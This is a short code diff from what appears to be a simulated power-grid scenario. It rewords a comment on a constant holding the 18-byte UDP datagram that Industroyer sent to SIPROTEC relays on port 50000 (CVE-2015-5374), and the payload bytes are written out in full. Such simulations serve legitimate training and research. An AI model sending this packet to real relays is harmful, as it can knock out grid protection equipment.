@@ -4,7 +4,7 @@ import { power, relays, unknownClient } from '../site.ts'
 import { defineStep } from '../step.ts'
 
 const laptop = unknownClient(power)
-/** What Industroyer sent to SIPROTEC relays (CVE-2015-5374): 18 bytes to UDP 50000. */
+/** Packet of Industroyer to SIPROTEC relays (CVE-2015-5374): 18 bytes to UDP 50000. */
 const PORT = 50_000
 const DATAGRAM = Uint8Array.of(0x11, 0x49, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x28, 0x9e)
 
